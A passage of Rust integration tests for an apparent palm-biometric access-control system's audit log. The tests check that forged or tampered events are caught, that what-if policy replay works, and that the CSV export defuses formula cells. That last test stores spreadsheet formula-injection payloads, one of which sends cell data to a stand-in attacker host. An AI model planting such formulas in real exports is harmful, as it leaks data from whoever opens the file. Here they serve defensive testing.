            .unwrap()
            .ends_with(",liveness,unopenable,passback_violation"),
        "{csv}"
    );
    assert!(lines.next().unwrap().ends_with(",true,false"), "{csv}");
    assert!(lines.next().unwrap().ends_with(",false,false"), "{csv}");
}

/// A refusal while the log has the door's relay on (another pulse holds it) left the door
/// open: the gateway records it without `refused`, and a forger who adds the flag (undoing
/// the grant's zone movement, so the palm can be passed back) is caught.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pulse_forged_as_refused_while_the_relay_was_on_is_caught() {
    let (_, enrolled) = zoned_lobby().await;
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled;
    app.reader_message(ReaderId("lobby-in".into()), capture("alice", 300, "walk-0"))
        .await
        .unwrap();
    let relay = |report| app.execute(palmgate::core::Command::relay(report));
    relay(palmgate::core::RelayReport::Coil {
        device: "board-1".into(),
        coil: 0,
        on: true,
        tag: "walk-0".into(),
    })
    .await
    .unwrap();
    relay(palmgate::core::RelayReport::CoilFailed {
        device: "board-1".into(),
        coil: 0,
        on: true,
        error: "device exception IllegalDataValue".into(),
        tag: "walk-0".into(),
        refused: true,
    })
    .await
    .unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let (pos, data) = first_row(&log.db(), "RelayFailed");
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert!(v.get("refused").is_none(), "the relay was on: {v}");
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(r.ok(), "{:?}", r.findings);
    v["refused"] = json!(true);
    forged_is_caught(&log.db(), pos, &v, &["refused", "relay on"]);
}

/// A grant whose pulse the board refused is no entry in the candidate's zones either (as the
/// state fold has it, `DoorState::passage`): the entry after it is granted again under the
/// policy in force, so what-if reports nothing changed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_a_refused_pulse_undoes_the_grants_movement() {
    let (site, enrolled) = zoned_lobby().await;
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled;
    let scan = |id: &'static str, seed| {
        app.reader_message(ReaderId("lobby-in".into()), capture("alice", seed, id))
    };
    scan("walk-0", 300).await.unwrap();
    app.execute(palmgate::core::Command::relay(
        palmgate::core::RelayReport::CoilFailed {
            device: "board-1".into(),
            coil: 0,
            on: true,
            error: "device exception IllegalDataAddress".into(),
            tag: "walk-0".into(),
            refused: true,
        },
    ))
    .await
    .unwrap();
    scan("walk-1", 301).await.unwrap();
    scan("walk-2", 302).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let positions = decided_positions(&log);
    let verdicts = verdicts_at(&log, &positions);
    assert_eq!(
        verdicts,
        [json!("granted"), json!("granted"), json!("denied")],
        "the entry after the refused pulse is let in, the one after it is not"
    );
    assert_eq!(changes(&log, &positions, &site, None), (3, vec![]));
}

/// A log under [`SITE`] with one decision (alice at `lobby-1`), then three scans at `hall-1`
/// and one at `attic-1`, readers at no door: rejected `no_door`. Returns the log and the
/// instants of the `hall-1` rejections.
async fn no_door_log() -> (Log, Vec<chrono::DateTime<chrono::Utc>>) {
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled().await;
    for (i, reader) in ["lobby-1", "hall-1", "hall-1", "attic-1", "hall-1"]
        .iter()
        .enumerate()
    {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        app.reader_message(
            ReaderId(reader.to_string()),
            capture("alice", 400 + i as u64, &format!("walk-{i}")),
        )
        .await
        .unwrap();
    }
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let c = Connection::open(log.db()).unwrap();
    let mut st = c
        .prepare("SELECT data FROM events WHERE type = 'CaptureRejected' ORDER BY position")
        .unwrap();
    let rejected: Vec<Value> = st
        .query_map([], |r| r.get::<_, String>(0))
        .unwrap()
        .map(|d| serde_json::from_str(&d.unwrap()).unwrap())
        .collect();
    assert_eq!(rejected.len(), 4, "{rejected:?}");
    assert!(
        rejected.iter().all(|r| r["reason"] == "no_door"),
        "{rejected:?}"
    );
    let hall = rejected
        .iter()
        .filter(|r| r["reader_id"] == "hall-1")
        .map(|r| r["at"].as_str().unwrap().parse().unwrap())
        .collect();
    assert_eq!(decided_rows(&log.db()).len(), 1);
    (log, hall)
}

/// `palmgate audit what-if` on `log` with the candidate `site`: exit status and stdout.
fn what_if_cli(log: &Log, site: &str) -> (Option<i32>, String) {
    let candidate = log.dir.path().join("candidate.toml");
    std::fs::write(&candidate, site).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_palmgate"))
        .args(["audit", "what-if", "--config"])
        .arg(&log.config)
        .arg("--policy")
        .arg(&candidate)
        .output()
        .unwrap();
    (out.status.code(), String::from_utf8(out.stdout).unwrap())
}

/// Scans the log rejected `no_door` name no person and cannot be decided again; a candidate
/// that puts their reader at a door is told how many there are (they would otherwise read as
/// "nothing changes"), per reader. A reader the candidate leaves at no door is not mentioned.
/// They are no change: the exit status stays 0 and the summary line is as before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_counts_the_no_door_scans_at_a_reader_the_candidate_puts_at_a_door() {
    let (log, hall) = no_door_log().await;
    let candidate = SITE.replace(
        r#"readers = ["lobby-1"]"#,
        r#"readers = ["lobby-1", "hall-1"]"#,
    );
    let (code, out) = what_if_cli(&log, &candidate);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(
        out,
        "reader hall-1: 3 scan(s) rejected as no_door in range; the candidate puts hall-1 at \
         door main; they cannot be re-decided (no person was matched when they were \
         rejected)\n1 decisions replayed, 0 would change\n"
    );
    // Through the library, and counted by their instant: from the second one on, two.
    let policy = palmgate::core::policy::Policy::parse(&candidate).unwrap();
    let found = audit::what_if(&store(&log.db()), &policy, Some(hall[1]), None).unwrap();
    assert_eq!(found.replayed, 0);
    assert!(found.changed.is_empty());
    assert_eq!(
        found.not_redecidable,
        [audit::NoDoorScans {
            reader: ReaderId("hall-1".into()),
            door: palmgate::core::policy::DoorId("main".into()),
            scans: 2,
        }]
    );
    // Up to the second one (`to` is exclusive): one.
    let to_second = audit::what_if(&store(&log.db()), &policy, None, Some(hall[1])).unwrap();
    assert_eq!(
        to_second
            .not_redecidable
            .iter()
            .map(|r| (r.reader.as_str(), r.scans))
            .collect::<Vec<_>>(),
        [("hall-1", 1)]
    );
}

/// The scans at a reader the candidate leaves at no door are not mentioned (for them nothing
/// changes): a candidate that puts only `attic-1` at a door reports its one scan and says
/// nothing of `hall-1`; the policy in force reports none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_says_nothing_of_no_door_scans_at_a_reader_the_candidate_leaves_at_no_door() {
    let (log, _) = no_door_log().await;
    let attic = SITE.replace(
        r#"readers = ["lab-1"]"#,
        r#"readers = ["lab-1", "attic-1"]"#,
    );
    let (code, out) = what_if_cli(&log, &attic);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(
        out,
        "reader attic-1: 1 scan(s) rejected as no_door in range; the candidate puts attic-1 at \
         door lab; they cannot be re-decided (no person was matched when they were \
         rejected)\n1 decisions replayed, 0 would change\n"
    );
    let (code, out) = what_if_cli(&log, SITE);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(out, "1 decisions replayed, 0 would change\n");
    let policy = palmgate::core::policy::Policy::parse(SITE).unwrap();
    let found = audit::what_if(&store(&log.db()), &policy, None, None).unwrap();
    assert!(found.not_redecidable.is_empty(), "{found:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_exits_1_on_tampering_and_exports_csv() {
    let log = make_log().await;
    let bin = env!("CARGO_BIN_EXE_palmgate");
    let run = |args: &[&str]| {
        std::process::Command::new(bin)
            .args(args)
            .arg("--config")
            .arg(&log.config)
            .output()
            .unwrap()
    };
    let ok = run(&["audit", "verify"]);
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stdout)
    );
    let csv = run(&["audit", "export", "--format", "csv"]);
    let text = String::from_utf8(csv.stdout).unwrap();
    assert_eq!(text.lines().next().unwrap(), audit::CSV_HEADER);
    assert_eq!(text.lines().count(), 7);
    assert!(text.contains(",main,lobby-1,"));
    let (pos, data) = decided_rows(&log.db())[0].clone();
    Connection::open(log.db())
        .unwrap()
        .execute(
            "UPDATE events SET data = ?1 WHERE position = ?2",
            params![data.replace("standard", "standarc"), pos],
        )
        .unwrap();
    let bad = run(&["audit", "verify"]);
    assert_eq!(bad.status.code(), Some(1));
    let out = String::from_utf8_lossy(&bad.stdout);
    assert!(out.contains(&format!("position {pos}")), "{out}");
}

/// A door scan decided a moment before a lockdown, whose append reaches the log after it: the
/// store refuses it (the decision read the site mode the lockdown changed), and decided again
/// it is denied. It once landed as a grant under the mode the log had already left: the door
/// opened during the lockdown, and `audit verify` failed the log.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scan_decided_before_a_lockdown_cannot_land_after_it() {
    use palmgate::core::matcher::Candidate;
    use palmgate::core::{Capture, Command, ExternalId, decide};
    use palmgate::store::StoreError;
    let g = enrolled().await;
    let cap = Capture {
        reader_id: ReaderId("lobby-1".into()),
        capture_id: "race-1".into(),
        session: None,
        quality: 0.9,
        liveness: true,
        best: Some(Candidate {
            partner_id: g.partner,
            external_id: ExternalId("alice".into()),
            similarity: 0.97,
        }),
        sealed: None,
    };
    let now = g.app.clock.now();
    let scan = g
        .app
        .read(|s| decide(s, &Command::Capture(cap.clone()), now))
        .unwrap();
    let granted = scan.events().any(
        |e| matches!(e, palmgate::core::Event::DoorDecided { verdict, .. } if verdict.granted()),
    );
    assert!(granted, "before the lockdown alice is granted");
    g.app
        .execute(Command::SetSiteMode {
            lockdown: Some(true),
            emergency: None,
        })
        .await
        .unwrap();
    match g.app.store.append(scan.appends, now).await {
        Err(StoreError::Conflict { stream, .. }) => assert_eq!(stream, "site"),
        other => panic!("the stale grant was not refused: {other:?}"),
    }
    // Through the app, the same scan is decided again, under the lockdown.
    g.app.execute(Command::Capture(cap)).await.unwrap();
    let store = g.app.store.clone();
    // Closed before the forgery: the close saves the log's head, which a later close would
    // save over the forged chain (a second finding).
    g.app.close();
    drop(g.server);
    drop(g.app);
    let decided = decided_rows(&g.dir.path().join("events.db"));
    let (_, last) = decided.last().expect("a door decision");
    let v: Value = serde_json::from_str(last).unwrap();
    assert_eq!(v["mode"], "lockdown", "{v}");
    assert_eq!(v["verdict"]["verdict"], "denied", "{v}");
    let report = audit::verify(&*store).unwrap();
    assert!(report.ok(), "{:?}", report.findings);
    drop(g.config);
}

/// Every finding of a verification, as `(position, problem)`.
fn findings(db: &Path) -> Vec<(u64, String)> {
    audit::verify(&store(db))
        .unwrap()
        .findings
        .into_iter()
        .map(|f| (f.position, f.problem))
        .collect()
}

/// Rewrites each stored event's data with `f` (`None`: unchanged) and re-seals the chain.
fn rewrite_all(db: &Path, f: impl Fn(&str, &mut Value) -> bool) {
    let c = Connection::open(db).unwrap();
    let rows: Vec<(i64, String, String)> = {
        let mut st = c
            .prepare("SELECT position, type, data FROM events ORDER BY position")
            .unwrap();
        st.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    for (pos, kind, data) in rows {
        let mut v: Value = serde_json::from_str(&data).unwrap();
        if f(&kind, &mut v) {
            c.execute(
                "UPDATE events SET data = ?1 WHERE position = ?2",
                params![serde_json::to_string(&v).unwrap(), pos],
            )
            .unwrap();
        }
    }
    reseal(&c, 1);
}

/// A stranger's `no_match` rewritten into a grant for alice, or for someone never enrolled,
/// with the palm's similarity and judgement deleted so there is nothing to re-derive the match
/// from, and the chain re-sealed: a subject without a similarity is only an upstream Pass
/// API's, and this decision follows no upstream session's ending; and the log records a
/// judgement on every capture since its first one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_grant_stripped_of_its_palm_judgement_is_caught() {
    for who in ["alice", "eve"] {
        let log = make_log().await;
        let rows = decided_rows(&log.db());
        let alice: Value = serde_json::from_str(&rows[0].1).unwrap();
        let (pos, data) = rows[2].clone();
        let mut v: Value = serde_json::from_str(&data).unwrap();
        assert_eq!(v["verdict"]["reason"], "no_match", "{v}");
        v["subject"] = alice["subject"].clone();
        v["subject"]["external_id"] = json!(who);
        v["verdict"] = alice["verdict"].clone();
        let o = v.as_object_mut().unwrap();
        for k in ["similarity", "judged", "quality"] {
            assert!(o.remove(k).is_some(), "{k}");
        }
        forge(&log.db(), pos, &serde_json::to_string(&v).unwrap());
        let found = findings(&log.db());
        assert!(
            found.iter().all(|(p, _)| *p == pos as u64),
            "{who}: {found:?}"
        );
        for what in ["no similarity", "capture judgement missing"] {
            assert!(
                found.iter().any(|(_, f)| f.contains(what)),
                "{who}, {what}: {found:?}"
            );
        }
    }
}

/// A session ending whose capture lost its judgement, or the capture itself, once the log
/// records judgements: reported. A log that never recorded any (written before they were)
/// still verifies clean.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_ending_without_its_judgement_is_caught_but_old_logs_verify() {
    // A door decision after the first judged capture (the enrolment's) without its own.
    let log = make_log().await;
    let (pos, _) = first_row(&log.db(), "SessionCompleted");
    assert!(
        pos < decided_rows(&log.db())[0].0,
        "the enrolment ends before the scans"
    );
    let (dpos, ddata) = decided_rows(&log.db())[1].clone();
    let mut v: Value = serde_json::from_str(&ddata).unwrap();
    v.as_object_mut().unwrap().remove("judged");
    v.as_object_mut().unwrap().remove("quality");
    forge(&log.db(), dpos, &serde_json::to_string(&v).unwrap());
    let found = findings(&log.db());
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, dpos as u64);
    assert!(
        found[0].1.contains("capture judgement missing"),
        "{found:?}"
    );

    // A session ending after the first judgement: a second enrolment's completion.
    let g = enrolled().await;
    let sid = palmgate::core::SessionId::from_random([9; 16]);
    let token = g.app.keys.session_token(sid);
    g.app
        .execute(palmgate::core::Command::CreateSession {
            partner_id: g.partner,
            session_id: sid,
            token_hash: palmgate::app::secrets::hash_secret(&token),
            kind: palmgate::core::SessionKind::Identify,
            language: palmgate::core::Language::En,
            enroll: None,
            idempotency: None,
            ttl: chrono::Duration::minutes(15),
        })
        .await
        .unwrap();
    g.app
        .reader_message(
            ReaderId("desk-1".into()),
            Inbound::Capture(CaptureMsg {
                capture_id: "identify-1".into(),
                session: Some(token),
                template: palmgate::synthetic::scan("alice", 128, 2).into(),
                quality: 0.9,
                liveness: true,
            }),
        )
        .await
        .unwrap();
    let db = g.dir.path().join("events.db");
    // Closed before the forgery: the close saves the log's head, which a later close would
    // save over the forged chain (a second finding).
    g.app.close();
    drop(g.server);
    drop(g.app);
    let c = Connection::open(&db).unwrap();
    let (pos, data): (i64, String) = c
        .query_row(
            "SELECT position, data FROM events WHERE type = 'SessionCompleted' \
             ORDER BY position DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert!(findings(&db).is_empty(), "{:?}", findings(&db));
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert!(v["capture"]["judged"].is_object(), "{v}");
    v["capture"].as_object_mut().unwrap().remove("judged");
    forge(&db, pos, &serde_json::to_string(&v).unwrap());
    let found = findings(&db);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, pos as u64);
    assert!(
        found[0].1.contains("capture judgement missing"),
        "{found:?}"
    );
    v.as_object_mut().unwrap().remove("capture");
    forge(&db, pos, &serde_json::to_string(&v).unwrap());
    let found = findings(&db);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].1.contains("without the capture that ended it"),
        "{found:?}"
    );

    // The same kind of log as written before judgements were recorded: none anywhere.
    let log = make_log().await;
    rewrite_all(&log.db(), |_, v| {
        let o = v.as_object_mut().unwrap();
        // A door's capture records its quality only with its judgement.
        let mut changed = o.remove("judged").is_some() && o.remove("quality").is_some();
        if let Some(c) = o.get_mut("capture").and_then(Value::as_object_mut) {
            changed |= c.remove("judged").is_some();
        }
        changed
    });
    assert!(!decided_rows(&log.db())[0].1.contains("judged"));
    let found = findings(&log.db());
    assert!(found.is_empty(), "{found:?}");
}

/// The time a decision was judged at is the instant it was recorded: moving a grant to a
/// closed hour (a denial "outside_schedule" that agrees with it), or the row's `recorded_at`
/// far into the future and back, is caught even with the chain re-sealed. `verify` names the
/// head it checked, so a log cut at its end can be told from one kept elsewhere.
#[tokio::test]
async fn a_decision_moved_in_time_is_caught() {
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[0].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    let at = chrono::DateTime::parse_from_rfc3339(v["at"].as_str().unwrap()).unwrap();
    v["at"] = json!((at + chrono::Duration::hours(30)).to_rfc3339());
    forge(&log.db(), pos, &serde_json::to_string(&v).unwrap());
    reseal(&Connection::open(log.db()).unwrap(), pos);
    let found = findings(&log.db());
    assert!(
        found
            .iter()
            .any(|(p, f)| *p == pos as u64 && f.contains("but recorded at")),
        "{found:?}"
    );

    let log = make_log().await;
    let (pos, _) = decided_rows(&log.db())[0].clone();
    let c = Connection::open(log.db()).unwrap();
    c.execute(
        "UPDATE events SET recorded_at = '2031-01-01T00:00:00.000000Z' WHERE position = ?1",
        [pos],
    )
    .unwrap();
    reseal(&c, pos);
    let found = findings(&log.db());
    assert!(
        found
            .iter()
            .any(|(p, f)| *p == pos as u64 && f.contains("but recorded at 2031-01-01")),
        "{found:?}"
    );
    // The step back after it is a warning: a clock corrected backwards leaves it too.
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(
        r.warnings
            .iter()
            .any(|w| w.position == pos as u64 + 1
                && w.problem.contains("before the event before it")),
        "the step back after it: {:?}",
        r.warnings
    );
    assert!(
        !r.findings
            .iter()
            .any(|f| f.problem.contains("before the event before it")),
        "{:?}",
        r.findings
    );

    let log = make_log().await;
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(r.ok(), "{:?}", r.findings);
    let (position, hash) = r.head.expect("a head");
    assert_eq!(position, r.events);
    let c = Connection::open(log.db()).unwrap();
    let stored: Vec<u8> = c
        .query_row(
            "SELECT hash FROM events WHERE position = ?1",
            [position as i64],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(hash, hex::encode(stored));
}

/// A decision moved to another door (one its reader is not bound to), into another door's
/// stream, or given a revision its stream never had: each caught, the chain re-sealed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decision_at_the_wrong_door_stream_or_revision_is_caught() {
    // lab-1 is bound to `lab`; alice's level has both doors, so the verdict stands.
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[1].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["door"], "lab", "{v}");
    v["door"] = json!("main");
    forge(&log.db(), pos, &serde_json::to_string(&v).unwrap());
    let found = findings(&log.db());
    assert!(found.iter().all(|(p, _)| *p == pos as u64), "{found:?}");
    assert!(
        found
            .iter()
            .any(|(_, f)| f.contains("reader lab-1 is bound to door lab")),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|(_, f)| f.contains("not the door's stream")),
        "{found:?}"
    );

    // The lab decision filed in the main door's stream, with the revision that stream is at.
    let log = make_log().await;
    let (pos, _) = decided_rows(&log.db())[1].clone();
    let c = Connection::open(log.db()).unwrap();
    let main_rev: i64 = c
        .query_row(
            "SELECT max(revision) FROM events WHERE stream = 'door-main' AND position < ?1",
            [pos],
            |r| r.get(0),
        )
        .unwrap();
    c.execute(
        "UPDATE events SET stream = 'door-main', revision = ?1 WHERE position = ?2",
        params![main_rev + 1, pos],
    )
    .unwrap();
    reseal(&c, pos);
    let found = findings(&log.db());
    assert!(
        found
            .iter()
            .any(|(p, f)| *p == pos as u64 && f.contains("not the door's stream door-lab")),
        "{found:?}"
    );

    // A session's ending filed as a new start of its stream (revision 0 again): a session
    // stream never starts again, whatever the retention.
    let log = make_log().await;
    let (pos, _) = first_row(&log.db(), "SessionCompleted");
    let c = Connection::open(log.db()).unwrap();
    let (stream, rev): (String, i64) = c
        .query_row(
            "SELECT stream, revision FROM events WHERE position = ?1",
            [pos],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert!(stream.starts_with("session-") && rev > 0, "{stream} {rev}");
    c.execute("UPDATE events SET revision = 0 WHERE position = ?1", [pos])
        .unwrap();
    reseal(&c, pos);
    let found = findings(&log.db());
    assert!(
        found.iter().any(|(p, f)| *p == pos as u64
            && f.contains(&format!(
                "stream {stream}: revision 0, but its last revision was"
            ))),
        "{found:?}"
    );

    // A revision skipped.
    let log = make_log().await;
    let (pos, _) = decided_rows(&log.db())[3].clone();
    let c = Connection::open(log.db()).unwrap();
    c.execute(
        "UPDATE events SET revision = revision + 5 WHERE position = ?1",
        [pos],
    )
    .unwrap();
    reseal(&c, pos);
    let found = findings(&log.db());
    assert_eq!(found[0].0, pos as u64, "{found:?}");
    assert!(
        found[0].1.contains("stream door-main: revision"),
        "{found:?}"
    );
}

/// Values of the wrong type in three rows (text that is not UTF-8, a revision that is not a
/// number, a one-byte hash): each is a finding at its position, and verification reads on, so
/// a forged grant after them is still caught — whatever the page size.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreadable_rows_are_findings_and_hide_nothing_after_them() {
    let log = make_log().await;
    let rows = decided_rows(&log.db());
    let alice: Value = serde_json::from_str(&rows[0].1).unwrap();
    let (forged, data) = rows[4].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["verdict"]["reason"], "no_match", "{v}");
    v["subject"] = alice["subject"].clone();
    v["verdict"] = alice["verdict"].clone();
    forge(&log.db(), forged, &serde_json::to_string(&v).unwrap());
    let c = Connection::open(log.db()).unwrap();
    let (a, b, d) = (rows[0].0, rows[1].0, rows[3].0);
    c.execute(
        "UPDATE events SET data = CAST(X'7B80FF7D' AS TEXT) WHERE position = ?1",
        [a],
    )
    .unwrap();
    c.execute(
        "UPDATE events SET revision = 'two' WHERE position = ?1",
        [b],
    )
    .unwrap();
    c.execute("UPDATE events SET hash = X'01' WHERE position = ?1", [d])
        .unwrap();
    drop(c);
    let r = audit::verify(&read_only(&log.db())).unwrap();
    let at: Vec<u64> = r.findings.iter().map(|f| f.position).collect();
    assert_eq!(
        at,
        vec![a as u64, b as u64, d as u64, forged as u64],
        "{:?}",
        r.findings
    );
    for f in &r.findings[..3] {
        assert!(f.problem.starts_with("unreadable row"), "{:?}", r.findings);
    }
    assert!(
        r.findings[3].problem.contains("gives no match"),
        "{:?}",
        r.findings
    );
    for (page, threads) in [(1, 2), (2, 2), (3, 1), (4, 0), (1, 0)] {
        let again = audit::verify_paged(&read_only(&log.db()), page, threads).unwrap();
        assert_eq!(again.findings, r.findings, "page {page}, {threads} threads");
        assert_eq!(again.events, r.events, "page {page}");
    }
}

/// `audit` opens the file read-only: a file that is no event log (the key store, here) is
/// refused as such and left exactly as it was, and verifying a real log changes no byte of it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_reads_the_log_read_only_and_refuses_a_file_that_is_no_log() {
    let log = make_log().await;
    let bin = env!("CARGO_BIN_EXE_palmgate");
    let keys = log.dir.path().join("keys.db");
    assert!(keys.exists());
    let before = std::fs::read(&keys).unwrap();
    let out = std::process::Command::new(bin)
        .args(["audit", "verify", "--config"])
        .arg(&log.config)
        .env("PALMGATE_STORE_PATH", &keys)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{} is not a palmgate event log", keys.display())),
        "{err}"
    );
    assert!(String::from_utf8_lossy(&out.stdout).is_empty());
    assert_eq!(
        std::fs::read(&keys).unwrap(),
        before,
        "the key store changed"
    );
    let tables: Vec<String> = {
        let c = Connection::open(&keys).unwrap();
        let mut st = c
            .prepare("SELECT name FROM sqlite_master WHERE type = 'table'")
            .unwrap();
        st.query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert!(!tables.iter().any(|t| t == "events"), "{tables:?}");
    // Not SQLite at all.
    let text = log.dir.path().join("notes.txt");
    std::fs::write(
        &text,
        "not a database, just long enough to be read as one. ".repeat(20),
    )
    .unwrap();
    let out = std::process::Command::new(bin)
        .args(["audit", "export", "--config"])
        .arg(&log.config)
        .env("PALMGATE_STORE_PATH", &text)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is not a palmgate event log"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The real log: verified, and not one byte of it written. (First the stopped server's
    // last WAL checkpoint lands: the file is read until it stays the same.)
    let db = log.db();
    let mut before = std::fs::read(&db).unwrap();
    for _ in 0..50 {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        let now = std::fs::read(&db).unwrap();
        if now == before {
            break;
        }
        before = now;
    }
    let out = std::process::Command::new(bin)
        .args(["audit", "verify", "--config"])
        .arg(&log.config)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("6 door decisions re-derived"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(std::fs::read(&db).unwrap(), before, "the log changed");
}

/// A partner-chosen external_id that a spreadsheet would run as a formula lands in the CSV
/// export as text: prefixed with `'` (then quoted as CSV asks). Numbers are left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_neutralises_formula_cells() {
    let log = make_log().await;
    let rows = decided_rows(&log.db());
    let c = Connection::open(log.db()).unwrap();
    let set = |row: usize, key: &str, field: Option<&str>, to: &str| {
        let mut v: Value = serde_json::from_str(&rows[row].1).unwrap();
        match field {
            Some(f) => v[key][f] = json!(to),
            None => v[key] = json!(to),
        }
        c.execute(
            "UPDATE events SET data = ?1 WHERE position = ?2",
            params![serde_json::to_string(&v).unwrap(), rows[row].0],
        )
        .unwrap();
    };
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    set(0, "subject", Some("external_id"), hyperlink);
    set(1, "subject", Some("external_id"), "+1+1");
    set(2, "reader_id", None, "\tlobby");
    set(3, "subject", Some("external_id"), "-2");
    set(5, "subject", Some("external_id"), "@SUM(A1)");
    drop(c);
    let text = audit::export(&store(&log.db()), None, None, true).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 7, "{text}");
    assert!(
        lines[1].contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","#),
        "{}",
        lines[1]
    );
    assert!(lines[2].contains(",'+1+1,"), "{}", lines[2]);
    assert!(lines[3].contains(",'\tlobby,"), "{:?}", lines[3]);
    assert!(lines[4].contains(",'-2,"), "{}", lines[4]);
    assert!(lines[6].contains(",'@SUM(A1),"), "{}", lines[6]);
    // The other cells as before: similarities and thresholds are numbers, never prefixed.
    assert!(lines[1].ends_with(",0.8,true,false,false"), "{}", lines[1]);
    assert_eq!(
        text.matches(",'").count() + text.matches(",\"'").count(),
        5,
        "{text}"
    );
    assert!(
        lines[3].contains(",-0."),
        "a negative number stays one: {}",
        lines[3]
    );
}

/// The stored data of the event at `position`.
fn row_data(db: &Path, position: i64) -> Value {
    let c = Connection::open(db).unwrap();
    let d: String = c
        .query_row(
            "SELECT data FROM events WHERE position = ?1",
            [position],
            |r| r.get(0),
        )
        .unwrap();
    serde_json::from_str(&d).unwrap()
}

/// A log where the relays did what the log asked: alice's grant at `main` pulsed its coil
/// (ON, then OFF), mallory was denied, and an emergency rested every door unlocked (coil 1 ON,
/// untagged) and then locked again. Positions of the relay reports: `[grant ON, grant OFF,
/// emergency ON]`.
async fn relay_log() -> (Log, [i64; 3]) {
    use palmgate::core::{Command, RelayReport};
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled().await;
    for (reader, palm, id) in [
        ("lobby-1", "alice", "scan-0"),
        ("lobby-1", "mallory", "scan-1"),
    ] {
        app.reader_message(ReaderId(reader.into()), capture(palm, 7, id))
            .await
            .unwrap();
    }
    let coil = |coil: u16, on: bool, tag: &str| {
        Command::relay(RelayReport::Coil {
            device: "board-1".into(),
            coil,
            on,
            tag: tag.into(),
        })
    };
    let mode = |emergency: bool| Command::SetSiteMode {
        lockdown: None,
        emergency: Some(emergency),
    };
    app.execute(coil(0, true, "scan-0")).await.unwrap();
    app.execute(coil(0, false, "scan-0")).await.unwrap();
    app.execute(mode(true)).await.unwrap();
    app.execute(coil(1, true, "")).await.unwrap();
    // During the emergency a new policy moves `main` to coil 3: the relays drive the new coil
    // ON for the door resting unlocked, with no new resting change recorded.
    app.execute(Command::ActivatePolicy {
        document: SITE.replace("coil = 0", "coil = 3"),
        source: "admin".into(),
    })
    .await
    .unwrap();
    app.execute(coil(3, true, "")).await.unwrap();
    app.execute(mode(false)).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let c = Connection::open(log.db()).unwrap();
    let rows: Vec<(i64, String)> = c
        .prepare("SELECT position, data FROM events WHERE type = 'RelaySwitched' ORDER BY position")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(rows.len(), 4, "{rows:?}");
    let v: Vec<Value> = rows
        .iter()
        .map(|(_, d)| serde_json::from_str(d).unwrap())
        .collect();
    assert_eq!(
        (&v[0]["on"], &v[0]["tag"]),
        (&json!(true), &json!("scan-0"))
    );
    assert_eq!(
        (&v[1]["on"], &v[1]["door"]),
        (&json!(false), &json!("main"))
    );
    assert_eq!((&v[2]["on"], &v[2]["door"]), (&json!(true), &json!("lab")));
